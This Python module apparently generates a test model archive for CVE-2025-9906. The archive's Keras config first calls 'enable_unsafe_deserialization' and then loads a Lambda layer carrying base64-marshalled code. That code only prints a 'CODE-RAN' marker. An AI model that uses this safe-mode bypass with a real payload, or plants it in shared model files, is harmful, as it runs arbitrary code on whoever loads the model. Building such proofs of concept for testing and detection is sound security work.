"""The configuration first calls `keras.config.enable_unsafe_deserialization`, which is a Keras function and so on the
list of what may be named, and then holds a Lambda layer with code (CVE-2025-9906).
"""

import base64
import marshal


def payload(inputs):
    import os

    os.write(2, b"CODE-" + b"RAN")
    return inputs


def write(draft):
    switch = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "function",
    }
    code = base64.b64encode(marshal.dumps(payload.__code__)).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    draft.model(
        draft.archive(
            draft.sequential(
                draft.layer("Lambda", name="first", function=switch, arguments={}),
                draft.layer("Activation", name="second", activation=switch),
                draft.layer("Lambda", name="third", function=function),
            )
        )
    )
